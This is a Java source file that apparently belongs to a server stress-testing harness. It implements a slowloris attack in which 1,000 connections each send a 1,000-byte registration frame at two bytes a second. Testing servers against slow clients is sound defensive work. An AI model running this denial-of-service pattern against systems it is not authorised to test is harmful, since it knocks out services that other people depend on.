package io.hawser.attack.attacks;

import java.io.IOException;

/** Many connections that register as slowly as possible. */
final class SlowLoris implements Attack {
  private static final int CONNECTIONS = 1_000;

  @Override
  public String name() {
    return "slowLoris";
  }

  @Override
  public String does() {
    return "1,000 connections send a registration of 1,000 bytes, two bytes a second";
  }

  @Override
  public void run(Target target, Tally tally) throws IOException {
    byte[] registration = Frames.registerTm(RegisteredPeer.APPLICATION, "x".repeat(1_000));
    new Crowd(target, tally, CONNECTIONS, 100, () -> new Loris(registration)).run();
  }

  private static final class Loris extends Peer {
    private final byte[] registration;
    private final Pace pace = new Pace(2);
    private int sent;

    Loris(byte[] registration) {
      this.registration = registration;
    }

    @Override
    void connected() {
      sendNext(3); // a few at first: fewer do not even show a protocol
    }

    @Override
    void tick() {
      if (sent < registration.length && pace.takeOne()) {
        sendNext(1);
      }
    }

    private void sendNext(int count) {
      byte[] next = new byte[count];
      System.arraycopy(registration, sent, next, 0, count);
      sent += count;
      send(next);
    }
  }
}
